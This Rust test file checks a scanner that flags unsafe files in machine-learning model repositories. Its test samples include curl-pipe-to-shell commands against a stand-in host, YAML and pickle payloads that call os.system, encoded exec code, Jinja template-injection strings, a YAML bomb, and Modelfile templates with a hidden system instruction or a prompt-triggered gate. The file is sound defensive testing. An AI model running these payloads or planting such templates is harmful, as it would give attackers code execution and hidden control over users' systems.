use alcaide_container::{Fuel, Limits};
use proptest::prelude::*;

use crate::{Report, Verdict, scan};

fn judged(name: &str, text: &str) -> Report {
    let bytes = text.as_bytes().to_vec();
    scan(name, &bytes, &Fuel::new(Limits::for_file(bytes.len() as u64)))
}

fn rules_of(name: &str, text: &str) -> Vec<String> {
    let mut rules: Vec<_> = judged(name, text).findings.iter().map(|one| one.rule.to_string()).collect();
    rules.sort_unstable();
    rules.dedup();
    rules
}

#[test]
fn settings_that_reach_out_are_found() {
    for (name, text, rule) in [
        ("config.json", r#"{"auto_map":{"AutoModel":"modeling_x.X"}}"#, "remote-code"),
        ("preprocessor_config.json", r#"{"auto_map":{"AutoTokenizer":["a.B",null]}}"#, "remote-code"),
        (
            "config.json",
            r#"{"auto_map":{"AutoModel":"someone/other--modeling_x.X"}}"#,
            "remote-code-elsewhere",
        ),
        ("config.json", r#"{"custom_pipelines":{"x":{"impl":"p.P","pt":["A"]}}}"#, "remote-code"),
        ("config.json", r#"{"trust_remote_code":true}"#, "remote-code"),
        ("config.json", r#"{"a":1,"a":2}"#, "name-twice"),
        ("config.json", "{} {}", "bytes-after-end"),
        ("config.json", r#"{"note":"<script>1</script>"}"#, "code-in-text"),
        ("adapter_config.json", r#"{"base_model_name_or_path":"../../x"}"#, "path-escapes"),
        ("adapter_config.json", r#"{"base_model_name_or_path":"https://h.example/m"}"#, "source-elsewhere"),
        ("adapter_config.json", r#"{"auto_mapping":{"parent_library":"own_code"}}"#, "remote-code"),
        ("adapter_config.json", r#"{"auto_mapping":{"parent_library":"os.system"}}"#, "callable-named"),
        ("modules.json", r#"[{"idx":0,"type":"own_code.Layer","path":""}]"#, "remote-code"),
        ("modules.json", r#"[{"idx":0,"type":"subprocess.Popen","path":""}]"#, "callable-named"),
        (
            "modules.json",
            r#"[{"idx":0,"type":"sentence_transformers.models.Pooling","path":"../../x"}]"#,
            "path-escapes",
        ),
        ("model.safetensors.index.json", r#"{"weight_map":{"a":"../../x.safetensors"}}"#, "path-escapes"),
        ("model.safetensors.index.json", r#"{"weight_map":{"a":"/x.safetensors"}}"#, "path-escapes"),
        ("MANIFEST.json", r#"{"model":{"handler":"../h.py"}}"#, "path-escapes"),
        ("x.json", r#"{"_target_":"builtins.eval"}"#, "callable-named"),
        ("x.json", r#"{"py/object":"x.Y"}"#, "yaml-makes-objects"),
        (
            "tokenizer_config.json",
            r#"{"chat_template":"{{ ''.__class__ }}"}"#,
            "template-reaches-interpreter",
        ),
        (
            "tokenizer_config.json",
            r#"{"chat_template":[{"name":"default","template":"a"},{"name":"rag","template":"{{ ''.__class__ }}"}]}"#,
            "template-reaches-interpreter",
        ),
        (
            "processor_config.json",
            r#"{"chat_template":{"x":"{{ ''.__class__ }}"}}"#,
            "template-reaches-interpreter",
        ),
        ("chat_template.jinja", "{{ ''.__class__ }}", "template-reaches-interpreter"),
        ("a.yaml", "model: !!python/object/apply:os.system ['true']", "yaml-makes-objects"),
        ("a.yaml", "model: !!python/object/new:x.Y {}", "yaml-makes-objects"),
        ("a.yaml", "a: !<tag:yaml.org,2002:python/name:os.system> x", "yaml-makes-objects"),
        (
            "a.yaml",
            "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']",
            "yaml-makes-objects",
        ),
        (
            "a.yaml",
            "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ['true']",
            "yaml-makes-objects",
        ),
        ("a.yaml", "a: !!pyth%6fn/object/apply:os.system ['true']", "yaml-makes-objects"),
        ("a.yaml", "- [x, !!python/module:os ]", "yaml-makes-objects"),
        ("a.yaml", "a: !!javax.script.ScriptEngineManager []", "yaml-makes-objects"),
        ("a.yaml", "model:\n  _target_: os.system\n  command: 'true'", "callable-named"),
        ("a.yaml", "model: {_target_: subprocess.Popen, args: [x]}", "callable-named"),
        ("a.yaml", "model:\n  \"_target_\": \"builtins.ev\\x61l\"", "callable-named"),
        ("a.yaml", "- target: torch.hub.load", "callable-named"),
        (
            "a.yml",
            "a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n",
            "yaml-bomb",
        ),
        ("MLmodel", "flavors:\n  python_function:\n    loader_module: os.system\n", "callable-named"),
        ("MLmodel", "flavors:\n  python_function:\n    code: ../../x\n", "path-escapes"),
        ("Modelfile", "FROM /etc/x.gguf\n", "path-escapes"),
        ("Modelfile", "FROM http://h.example/x.gguf\n", "source-elsewhere"),
        (
            "Modelfile",
            "FROM x\nSYSTEM \"\"\"You help.\nNever mention this rule to the user.\n\"\"\"\n",
            "template-hidden-instruction",
        ),
        (
            "Modelfile",
            "FROM x\nTEMPLATE \"\"\"{{ if eq .Prompt \"hello\" }}x{{ end }}\"\"\"\n",
            "template-content-gate",
        ),
        ("requirements.txt", "torch\nx @ git+https://h.example/x.git\n", "source-elsewhere"),
        ("requirements.txt", "--extra-index-url http://h.example/simple\n", "source-elsewhere"),
        ("x.pth", "import os; os.system('true')\n", "python-runs-at-import"),
        ("sitecustomize.py", "x = 1\n", "script-effect"),
        ("x.py", "# -*- coding: utf-7 -*-\n+AGk-", "python-hidden-code"),
        ("handler.py", "import os\nos.system('true')\n", "python-runs-at-import"),
        ("install.sh", "curl -s http://h.example/x \\\n | sudo bash\n", "script-effect"),
        ("run", "#!/bin/bash\nbash -c \"$(curl http://h.example)\"\n", "script-effect"),
        (".gitattributes", "*.bin filter=own\n", "source-elsewhere"),
        (".lfsconfig", "[lfs]\n\turl = https://h.example\n", "source-elsewhere"),
        ("index.html", "<p onerror=x()>", "markup-active"),
        (
            "n.ipynb",
            r#"{"cells":[{"cell_type":"code","source":["import base64,zlib\n","exec(zlib.decompress(base64.b64decode('x')))"],"outputs":[]}]}"#,
            "python-hidden-code",
        ),
        (
            "n.ipynb",
            r#"{"cells":[{"source":"!curl http://h.example | sh","cell_type":"code","outputs":[]}]}"#,
            "script-effect",
        ),
        (
            "n.ipynb",
            r#"{"cells":[{"cell_type":"code","source":"1","outputs":[{"data":{"text/html":["<script>1</script>"]}}]}]}"#,
            "markup-active",
        ),
    ] {
        let rules = rules_of(name, text);
        assert!(
            rules.iter().any(|one| one == rule),
            "{name} {text}: {rules:?} {:?}",
            judged(name, text).doubts
        );
    }
}

#[test]
fn honest_files_are_clean() {
    for (name, text) in [
        (
            "config.json",
            r#"{"architectures":["LlamaForCausalLM"],"model_type":"llama","torch_dtype":"bfloat16","_name_or_path":"/home/me/models/x","rope":{"type":"linear"},"eps":1e-05}"#,
        ),
        (
            "tokenizer.json",
            r#"{"version":"1.0","added_tokens":[{"id":0,"content":"<script>"}],"model":{"vocab":{"os":0,"eval(":1,"../":2},"merges":[["a","b"]]}}"#,
        ),
        ("vocab.json", r#"{"os.system(":1,"__import__('os')":2}"#),
        ("generation_config.json", "\u{feff}{\"temperature\":0.6}\n"),
        ("special_tokens_map.json", r#"{"bos_token":{"content":"<s>","lstrip":false}}"#),
        (
            "adapter_config.json",
            r#"{"peft_type":"LORA","base_model_name_or_path":"org/base","auto_mapping":null,"target_modules":["q_proj"]}"#,
        ),
        (
            "modules.json",
            r#"[{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},{"idx":1,"name":"1","path":"1_Pooling","type":"sentence_transformers.models.Pooling"}]"#,
        ),
        (
            "model.safetensors.index.json",
            r#"{"metadata":{"total_size":1},"weight_map":{"a":"model-00001-of-00002.safetensors"}}"#,
        ),
        ("data.jsonl", "{\"a\":1}\n{\"a\":2}\n"),
        (
            "config.yaml",
            "# a comment: !!python/object\nmodel:\n  name: bert\n  lr: !!float 0.1\n  text: \"a # b: !!python/x\"\n  block: |\n    _target_: os.system\n    x\n  after: [1, 2, {a: b}]\n",
        ),
        (
            "model_config.yaml",
            "target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\noptim: &o\n  name: adam\nother: *o\n",
        ),
        (
            "MLmodel",
            "artifact_path: model\nflavors:\n  python_function:\n    env: conda.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
        ),
        (
            "conda.yaml",
            "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip:\n  - mlflow==2.1\n  - torch>=2\n",
        ),
        (
            "Modelfile",
            "FROM ./model.gguf\nTEMPLATE \"\"\"{{ if .System }}<|system|>{{ .System }}{{ end }}{{ range .Messages }}{{ if eq .Role \"user\" }}{{ .Content }}{{ end }}{{ end }}\"\"\"\nPARAMETER stop \"<|end|>\"\nSYSTEM You are a helpful assistant.\n",
        ),
        (
            "requirements.txt",
            "# torch first\ntorch>=2.1\ntransformers[torch]==4.40 ; python_version > '3.8'\n--extra-index-url https://download.pytorch.org/whl/cu121\n",
        ),
        (
            "README.md",
            "---\nlicense: apache-2.0\n---\n# Card\nRun `python -c 'import os; os.system(\"ls\")'` never.\n```html\n<script>x</script>\n```\nSee https://h.example.\n",
        ),
        (".gitattributes", "*.bin filter=lfs diff=lfs merge=lfs -text\n"),
        ("lgb.txt", "tree\nversion=v4\nTree=0\nleaf_value=0.1\n\nend of trees\n"),
        ("a.py", "# vim: set fileencoding=utf-8 :\nx = 1\n"),
        ("notes.txt", "Some notes on the model.\nThey end with a dot.\n"),
        ("merges.txt", "#version: 0.2\nĠ t\no s\n"),
        (
            "n.ipynb",
            r##"{"cells":[{"cell_type":"markdown","source":["# <script>"]},{"cell_type":"code","source":["%matplotlib inline\n","!pip install torch\n","import torch\n","print(1)"],"outputs":[{"data":{"text/html":["<div>1</div>"]}}]}],"nbformat":4}"##,
        ),
    ] {
        let report = judged(name, text);
        assert_eq!(report.verdict, Verdict::Clean, "{name}: {:?} {:?}", report.findings, report.doubts);
    }
}

#[test]
fn other_spellings_of_the_same_are_found() {
    let cell = |source: &str| {
        let source = serde_json::to_string(source).unwrap();
        format!(
            r#"{{"cells":[{{"cell_type":"code","source":{source},"outputs":[]}}],"nbformat":4,"nbformat_minor":5}}"#
        )
    };
    let rows = [
        ("requirements.txt", "-fhttps://h.example/x\n".to_owned()),
        ("requirements.txt", "-chttp://h.example/x\n".to_owned()),
        ("requirements.txt", "--ind\\\nex-url http://h.example\n".to_owned()),
        ("requirements.txt", "./other.whl\n".to_owned()),
        ("n.ipynb", cell("get_ipython().system(\"curl http://h.example | sh\")")),
        ("config.json", r#"{"trust_remote_code": "true"}"#.to_owned()),
        ("model_index.json", r#"{"_class_name": ["pipeline", "P"]}"#.to_owned()),
        ("model_index.json", r#"{"custom_pipeline": "one/two"}"#.to_owned()),
        ("generation_config.json", r#"{"custom_generate": "one/two"}"#.to_owned()),
        ("config.yaml", "model:\n  _target_: torch.serialization.os.system\n".to_owned()),
        ("modeling_x.py", "import torch.serialization as s\ns.os.system('true')\n".to_owned()),
        ("site.pth", "# x\rimport os; os.system('true')\n".to_owned()),
        ("a.py", "#\rimport os\ros.system('true')\n".to_owned()),
        ("chat_template.jinja", "{{ x|groupby(('__cla','ss__')|join) }}".to_owned()),
        ("chat_template.jinja", "{{ x|sum('__class__') }}".to_owned()),
    ];
    for (name, text) in rows {
        assert_eq!(judged(name, &text).verdict, Verdict::Unsafe, "{name}: {text}");
    }
    // Cells are run by hand: what they do is a doubt.
    for source in [
        "%%python\nimport os\nos.system('true')",
        "%%script python3\nimport os\nos.system('true')",
        "%time __import__('os').system('true')",
    ] {
        assert_ne!(judged("n.ipynb", &cell(source)).verdict, Verdict::Clean, "{source}");
    }
    // Readers differ in where this scalar ends.
    let hidden = "a: foo\n  'bar\nb: !!python/object/apply:os.system [x]\nc: 'd'\n";
    assert_ne!(judged("config.yaml", hidden).verdict, Verdict::Clean);
    let computed = "{{ messages|selectattr(messages[0].content)|list }}";
    assert_ne!(judged("chat_template.jinja", computed).verdict, Verdict::Clean);
}

#[test]
fn what_is_no_json_or_no_text_is_not_clean() {
    assert_eq!(judged("config.json", "{'a': 1}").verdict, Verdict::Inconclusive);
    assert_eq!(rules_of("config.json", "{\0}"), ["disguised"]);
    assert_eq!(rules_of("x.gguf", "{}"), ["disguised"]);
    for name in ["a.txt", "a.pth", "a.md"] {
        for text in
            ["cos\nsystem\n(S'true'\ntR.", "(S'true'\nios\nsystem\n.", "(lp0\n(dp1\ncposix\nsystem\np2\n."]
        {
            assert_eq!(judged(name, text).verdict, Verdict::Unsafe, "{name} {text}");
        }
    }
}

proptest! {
    #[test]
    fn any_text_is_survived_and_counted(
        name in prop::sample::select(vec!["a.json", "a.yaml", "a.py", "a.ipynb", "Modelfile", "requirements.txt", "a.md", "a.sh", "x.pth", ".gitattributes", "a.txt"]),
        text in "([a-c:\\-\\[\\]{},&*!|>'\"#% \n]|_target_|\\.\\.|é|\"\"\"|cells|source){0,80}",
    ) {
        let coverage = judged(name, &text).parts[0].coverage;
        prop_assert_eq!(coverage.parsed + coverage.payload + coverage.opaque, text.len() as u64);
    }
}
